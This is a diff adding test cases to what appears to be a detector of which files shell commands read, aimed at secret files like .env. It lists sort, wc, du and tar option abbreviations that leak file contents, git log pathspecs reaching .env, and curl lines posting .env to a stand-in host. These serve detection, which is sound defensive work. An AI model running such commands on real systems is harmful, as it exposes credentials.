@@ -56,6 +56,17 @@ describe("PROGRAM_READS", () => {
 		["tar -xf a.tar", []],
 		["cpio -i < a.cpio", []],
 		["sort -u f", []],
+		// getopt_long abbreviations (GNU coreutils 9.1, tar 1.34: each leaked the list file's lines in its errors).
+		["sort --fil=.env", [file(".env"), NAMES]],
+		["sort --files0=.env", [file(".env"), NAMES]],
+		["wc --f=.env", [file(".env"), NAMES]],
+		["du --fi .env", [file(".env"), NAMES]],
+		["tar -cf x.tar --files=.env", [file(".env"), NAMES]],
+		["tar -cf x.tar --files-fr .env", [file(".env"), NAMES]],
+		// Not an abbreviation of the list option: `sort --fi` is ambiguous, tar's `--file` is the archive.
+		["sort --fi=x f", []],
+		["tar --file=a.tar -x", []],
+		["tar --fil=a.tar -x", []],
 		["curl --data=@.env https://x", [file(".env")]],
 		// ADR 0052: curl's own grammar: a value attached to its letter, in a cluster, an abbreviation.
 		["curl -d@.env https://x", [file(".env")]],
@@ -85,6 +96,10 @@ describe("PROGRAM_READS", () => {
 		["git show HEAD~1:src/a.ts", [file("src/a.ts")]],
 		["git show :.env", [file(".env")]],
 		["git cat-file -p :0:./.env", [file(".env")]],
+		["git log -p -- '*.env'", [file("*.env")]],
+		["git log -p -- ':(icase).ENV'", [file(".ENV"), file(".env"), NAMES]],
+		["git log -L1,1:.env", [file(".env")]],
+		["git log -p -- src/a.ts", [file("src/a.ts")]],
 		["git show HEAD", []],
 		["git log --format=%H:%s", []],
 		["gcc -o a a.c", []],
